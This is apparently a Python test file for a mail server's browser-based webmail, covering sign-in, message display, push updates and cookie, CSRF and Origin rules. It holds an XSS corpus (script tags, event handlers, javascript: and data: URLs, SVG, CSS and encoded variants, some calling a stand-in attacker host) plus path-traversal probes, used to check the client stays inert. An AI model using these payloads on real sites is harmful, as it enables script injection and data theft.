"""The web client (issue 19) in a real browser: headless Chromium from Debian driven by
playwright-core (browser.js), against mailroomd over HTTPS. Sign-in by password (a wrong one
refused), a message delivered by SMTP read in the list and the pane, flags, delete to Trash,
the conversation view (a thread of three as one row, its messages in order in the pane),
new mail without reload pushed by EventSource (polling set to a day), remote images blocked until "show images", an XSS corpus delivered
as mail that never runs, the three languages, a phone viewport; screenshots are kept in
<build>/test-artifacts/webmail. Also, without a browser: the cookie, CSRF and Origin rules of
the sign-in and JMAP endpoints.

Skips (exit 77 through run_pytests) when Chromium, node or the built client with its
node_modules (web/build.sh, needs npm) is missing."""
import base64
import imaplib
import json
import os
import shutil
import smtplib
import subprocess
import tempfile
import time
import unittest

import web_client
from harness import DEFAULT_LISTENERS, Mailroom, bin_dir

LISTENERS = dict(DEFAULT_LISTENERS, https=("http", "implicit"))
BUILD = os.path.dirname(bin_dir())
WEB_ROOT = os.path.join(BUILD, "webmail")
NODE_MODULES = os.path.join(BUILD, "web-node", "node_modules")
CHROMIUM = os.environ.get("CHROMIUM", "/usr/lib/chromium/chromium")
SHOTS = os.path.join(BUILD, "test-artifacts", "webmail")
HERE = os.path.dirname(os.path.abspath(__file__))


def missing_tools():
    if not os.access(CHROMIUM, os.X_OK):
        return f"Chromium not found at {CHROMIUM} (apt-get install chromium; scripts/setup)"
    if not shutil.which("node"):
        return "node not found (scripts/setup installs nodejs)"
    if not os.path.isfile(os.path.join(WEB_ROOT, "index.html")):
        return f"the web client is not built ({WEB_ROOT}; needs npm: web/build.sh)"
    if not os.path.isdir(os.path.join(NODE_MODULES, "playwright-core")):
        return f"playwright-core is not installed in {NODE_MODULES} (web/build.sh runs npm ci)"
    return None


def run_browser(script, spec, on_need=lambda need: None):
    """Runs a browser script of this folder with `spec` (a JSON file); for each "NEED <what>"
    line it prints, calls on_need(what) and answers "done" on its stdin. Returns (exit code,
    everything it printed)."""
    with tempfile.NamedTemporaryFile("w", suffix=".json", delete=False) as f:
        json.dump(spec, f)
    proc = subprocess.Popen(["node", os.path.join(HERE, script), f.name],
                            env=dict(os.environ, NODE_PATH=NODE_MODULES), stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    out = []
    try:
        for line in proc.stdout:
            out.append(line)
            if line.startswith("NEED "):
                on_need(line.strip()[5:])
                proc.stdin.write("done\n")
                proc.stdin.flush()
        rc = proc.wait(timeout=300)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        proc.stdin.close()
        proc.stdout.close()
        os.unlink(f.name)
    return rc, "".join(out)


# An XSS corpus: each message's HTML tries to run script, call out, or navigate.
ATTACKER = "http://xss.attacker.example"
XSS = {
    "xss-script": f'<p>a</p><script>alert("script")</script><script src="{ATTACKER}/s.js"></script>'
                  f'<SCRIPT>fetch("{ATTACKER}/f")</SCRIPT>',
    "xss-handlers": '<img src=x onerror="alert(\'onerror\')"><body onload="alert(\'onload\')">'
                    '<div onmouseover="alert(1)" style="height:50px">hover</div>'
                    '<details open ontoggle="alert(\'toggle\')">d</details>',
    "xss-js-urls": '<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(2)">b</a>'
                   '<a href="java&#x09;script:alert(3)">c</a>'
                   '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(4)">d</a>'
                   '<a href="data:text/html,<script>alert(5)</script>">e</a>'
                   '<a href="vbscript:msgbox(6)">f</a>',
    "xss-svg": f'<svg><script>alert("svg")</script></svg><svg onload="alert(2)">'
               f'<image href="{ATTACKER}/svgimg"/></svg>'
               f'<img src="data:image/svg+xml;base64,'
               + base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').decode()
               + '">',
    "xss-css": f'<div style="background:url(javascript:alert(1))">a</div>'
               f'<div style="width: expression(alert(2))">b</div>'
               f'<div style="background-image:url({ATTACKER}/css)">c</div>'
               f'<div style="color:red;background:u\\72l({ATTACKER}/esc)">d</div>'
               f'<style>@import "{ATTACKER}/import.css"; body{{background:url({ATTACKER}/style)}}</style>'
               f'<link rel=stylesheet href="{ATTACKER}/link.css">',
    "xss-broken": '<<script>alert(1)//<</script><img """><script>alert(2)</script>">'
                  '<scr<script>ipt>alert(3)</scr</script>ipt>'
                  f'<iframe src="javascript:alert(4)"></iframe><object data="{ATTACKER}/obj"></object>'
                  f'<embed src="{ATTACKER}/embed"><math><mtext><table><mglyph><style>'
                  '<img src=x onerror=alert(5)></style></mglyph></table></mtext></math>'
                  '<noscript><p title="</noscript><img src=x onerror=alert(6)>"></noscript>'
                  '<template><script>alert(7)</script></template>',
    "xss-base-meta-form": f'<base href="{ATTACKER}/"><meta http-equiv="refresh" content="0;url={ATTACKER}/refresh">'
                          f'<form action="{ATTACKER}/form"><input name=q value=x><button>Go</button></form>'
                          '<a href="relative">rel</a><img src="relative.png">'
                          f'<a href="{ATTACKER}/ok-link">a plain link stays</a>',
}
# Encoded variants: UTF-7 (decoded by the server's MIME layer into markup) and base64.
XSS_RAW = {
    "xss-utf7": ("utf-7", "7bit", "+ADw-script+AD4-alert('utf7')+ADw-/script+AD4-"
                                  "+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-"),
    "xss-base64": ("utf-8", "base64", base64.encodebytes(
        f'<img src=x onerror="alert(\'b64\')"><script>fetch("{ATTACKER}/b64")</script>'.encode()).decode()),
}


class WebmailBrowserTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        why = missing_tools()
        if why:
            raise unittest.SkipTest(why)
        cls.m = Mailroom(listeners=LISTENERS,
                         extra_config=f'[webmail]\nroot = "{WEB_ROOT}"\naccount_check = 1\n')
        cls.m.seed_demo()
        cls.m.start()

    @classmethod
    def tearDownClass(cls):
        cls.m.close()

    def deliver(self, subject, body, content_type="text/plain; charset=utf-8", cte="8bit"):
        body = body.replace("\r\n", "\n").replace("\n", "\r\n")
        msg = (f"From: Carol <carol@remote.example>\r\nTo: alice@example.com\r\n"
               f"Subject: {subject}\r\nMessage-ID: <{subject}@remote.example>\r\n"
               f"MIME-Version: 1.0\r\nContent-Type: {content_type}\r\n"
               f"Content-Transfer-Encoding: {cte}\r\n\r\n{body}\r\n")
        with smtplib.SMTP("127.0.0.1", self.m.port("smtp"), timeout=30) as s:
            s.sendmail("carol@remote.example", ["alice@example.com"], msg.encode())

    def https(self):
        return web_client.https(self.m)

    def request(self, method, path, body=None, headers=None):
        return web_client.request(self.m, method, path, body, headers)

    def wait_delivered(self, subjects):
        """Every subject in alice's INBOX (through JMAP with Basic auth)."""
        auth = {"Authorization": web_client.basic_auth("alice@example.com", "wonderland")}
        deadline = time.time() + 60
        while True:
            status, _, data = self.request("GET", "/.well-known/jmap", headers=auth)
            self.assertEqual(status, 200, data)
            account = json.loads(data)["primaryAccounts"][web_client.MAIL]
            got = {e["subject"] for e in web_client.jmap_call(self.m, [
                ["Email/query", {"accountId": account, "limit": 100}, "q"],
                ["Email/get", {"accountId": account, "properties": ["subject"],
                               "#ids": {"resultOf": "q", "name": "Email/query", "path": "/ids"}}, "g"]],
                auth)[1][1]["list"]}
            if set(subjects) <= got:
                return
            if time.time() > deadline:
                self.fail(f"not delivered: {set(subjects) - got}")
            time.sleep(0.1)

    def sign_in(self, origin=True):
        return web_client.login(self.m, "alice@example.com", "wonderland",
                                web_client.SAME_ORIGIN if origin else {"Host": "127.0.0.1"})

    def test_cookie_csrf_and_origin_rules(self):
        status, _, _ = self.sign_in(origin=False)
        self.assertEqual(status, 403)  # no Origin / Sec-Fetch-Site: a cross-site form, maybe
        status, headers, data = self.sign_in()
        self.assertEqual(status, 200, data)
        cookie = headers["set-cookie"]
        for attr in ("HttpOnly", "Secure", "SameSite=Strict", "Path=/"):
            self.assertIn(attr, cookie)
        token = cookie.split(";")[0]
        csrf = json.loads(data)["csrf"]
        self.assertIn("default-src 'none'", headers["content-security-policy"])
        self.assertEqual(headers["x-content-type-options"], "nosniff")
        self.assertEqual(headers["referrer-policy"], "no-referrer")
        self.assertNotIn(token.split("=")[1], self.m.log())  # never logged
        api = json.dumps({"using": ["urn:ietf:params:jmap:core"], "methodCalls": [["Core/echo", {"a": 1}, "e"]]})
        base = {"Cookie": token, "Content-Type": "application/json", "Host": "127.0.0.1"}
        same = {"Origin": "https://127.0.0.1", "Sec-Fetch-Site": "same-origin"}
        status, _, _ = self.request("POST", "/jmap/api", api, base)
        self.assertEqual(status, 403)  # no CSRF token
        status, _, _ = self.request("POST", "/jmap/api", api, dict(base, **{"X-Mailroom-CSRF": csrf}))
        self.assertEqual(status, 403)  # no same-origin facts
        status, _, _ = self.request("POST", "/jmap/api", api, dict(base, **same, **{"X-Mailroom-CSRF": "0" * 64}))
        self.assertEqual(status, 403)
        status, _, data = self.request("POST", "/jmap/api", api, dict(base, **same, **{"X-Mailroom-CSRF": csrf}))
        self.assertEqual(status, 200, data)
        status, _, _ = self.request("GET", "/.well-known/jmap", headers={"Cookie": token})
        self.assertEqual(status, 200)
        # Static files: hashed assets cached, index not, gzip when asked, odd paths refused.
        status, headers, index = self.request("GET", "/webmail/", headers={"Accept-Encoding": "identity"})
        self.assertEqual(status, 200)
        self.assertEqual(headers["cache-control"], "no-cache")
        asset = index.decode().split('src="')[1].split('"')[0]
        status, headers, _ = self.request("GET", "/webmail/" + asset, headers={"Accept-Encoding": "gzip"})
        self.assertEqual(status, 200)
        self.assertEqual(headers["content-encoding"], "gzip")
        self.assertIn("immutable", headers["cache-control"])
        for bad in ("/webmail/..%2f..%2fmailroom.toml", "/webmail/%2e%2e/x.html", "/webmail/.x.html"):
            self.assertEqual(self.request("GET", bad)[0], 404, bad)
        # The push (RFC 8620 7.3) takes the cookie; a GET needs no CSRF token.
        push = self.https()
        push.request("GET", "/jmap/eventsource/?types=*&closeafter=no&ping=0", headers={"Cookie": token})
        stream = push.getresponse()
        self.assertEqual(stream.status, 200)
        self.assertEqual(stream.getheader("content-type"), "text/event-stream; charset=utf-8")
        # Sign-out ends the session for JMAP too, and its open stream at the next check
        # ([webmail] account_check, 1 s here).
        status, _, _ = self.request("POST", "/webmail/logout", None, dict(base, **same, **{"X-Mailroom-CSRF": csrf}))
        self.assertEqual(status, 204)
        self.assertEqual(stream.read(), b"")  # the server closed the stream (30 s socket timeout)
        push.close()
        status, _, _ = self.request("GET", "/.well-known/jmap", headers={"Cookie": token})
        self.assertEqual(status, 401)
        status, _, _ = self.request("GET", "/jmap/eventsource/?types=*&closeafter=no&ping=0",
                                    headers={"Cookie": token})
        self.assertEqual(status, 401)

    def test_disabled_account_loses_its_session(self):
        self.m.ctl("user", "add", "dora@example.com", "--password", "explorer-pw")
        token, _ = web_client.web_session(self.m, "dora@example.com", "explorer-pw")
        self.assertEqual(self.request("GET", "/webmail/session", headers={"Cookie": token})[0], 200)
        self.m.ctl("user", "change", "dora@example.com", "--status", "disabled", json_output=False)
        deadline = time.time() + 30
        while self.request("GET", "/webmail/session", headers={"Cookie": token})[0] != 401:
            if time.time() > deadline:
                self.fail("the session of a disabled account lived on")
            time.sleep(0.2)

    def test_browser(self):
        text_subject, text_body = "Hello from SMTP", "The quarterly report is attached below."
        image_subject = "Remote picture"
        self.deliver(text_subject, text_body)
        self.deliver(image_subject, '<p>Picture:</p><img src="http://images.remote.example/pixel.png" alt="pixel">',
                     "text/html; charset=utf-8")
        for subject, html in XSS.items():
            self.deliver(subject, html, "text/html; charset=utf-8")
        for subject, (charset, cte, body) in XSS_RAW.items():
            self.deliver(subject, body, f"text/html; charset={charset}", cte)
        xss = list(XSS) + list(XSS_RAW)
        self.wait_delivered([text_subject, image_subject] + xss)

        # A folder of several pages for the virtual list (APPENDed over IMAP).
        bulk_folder, bulk_prefix, bulk_count = "Bulk", "Bulk message", 240
        imap = imaplib.IMAP4_SSL("127.0.0.1", self.m.port("imaps"), ssl_context=self.m.ssl_context())
        imap.login("alice@example.com", "wonderland")
        # A conversation of three (References, RFC 5322 3.6.4) for the conversation view, an
        # hour apart (receivedAt orders a thread's messages).
        conv_subject, conv_bodies = "Offsite plan", ["first: the venue", "second: the dates", "third: agreed"]
        refs = []
        for i, body in enumerate(conv_bodies):
            mid = f"<conv{i}@remote.example>"
            threading = f"In-Reply-To: {refs[-1]}\r\nReferences: {' '.join(refs)}\r\n" if refs else ""
            imap.append("INBOX", None, imaplib.Time2Internaldate(time.time() - 3600 * (3 - i)),
                        (f"From: Carol <carol@remote.example>\r\nTo: alice@example.com\r\n"
                         f"Subject: {'Re: ' if i else ''}{conv_subject}\r\nMessage-ID: {mid}\r\n"
                         f"{threading}\r\n{body}\r\n").encode())
            refs.append(mid)
        imap.create(bulk_folder)
        for i in range(bulk_count):
            imap.append(bulk_folder, None, imaplib.Time2Internaldate(1700000000 + i * 60),
                        (f"From: Bulk <bulk@remote.example>\r\nTo: alice@example.com\r\n"
                         f"Subject: {bulk_prefix} {i}\r\n\r\nbody {i}\r\n").encode())
        imap.logout()
        os.makedirs(SHOTS, exist_ok=True)
        new_subject = "Arrived while open"
        spec = {"base": f"https://127.0.0.1:{self.m.port('https')}", "user": "alice@example.com",
                "password": "wonderland", "textSubject": text_subject, "textBody": text_body,
                "imageSubject": image_subject, "xss": xss, "newSubject": new_subject,
                "shots": SHOTS, "chromium": CHROMIUM, "bulkFolder": bulk_folder,
                "bulkPrefix": bulk_prefix, "bulkCount": bulk_count,
                "convSubject": conv_subject, "convBodies": conv_bodies}

        def on_need(need):
            if need == "new-mail":
                self.deliver(new_subject, "sent while the client was open")

        rc, report = run_browser("browser.js", spec, on_need)
        self.assertEqual(rc, 0, report)
        for check in ("wrong password refused", "signed in by password", "read a message delivered by SMTP",
                      "seen on open", "flagged", "remote images only after", "xss corpus inert",
                      "virtual scrolling",
                      "delete moved the message to Trash", "new mail pushed and shown without reload",
                      "conversation view (3-message thread", "languages switch and stay",
                      "phone layout", "signed out"):
            self.assertIn("ok " + check, report)
        for shot in ("1-sign-in", "2-list", "3-message", "6-zh-TW", "7-phone-list", "8-phone-message"):
            self.assertTrue(os.path.getsize(os.path.join(SHOTS, shot + ".png")) > 0, shot)


if __name__ == "__main__":
    unittest.main()
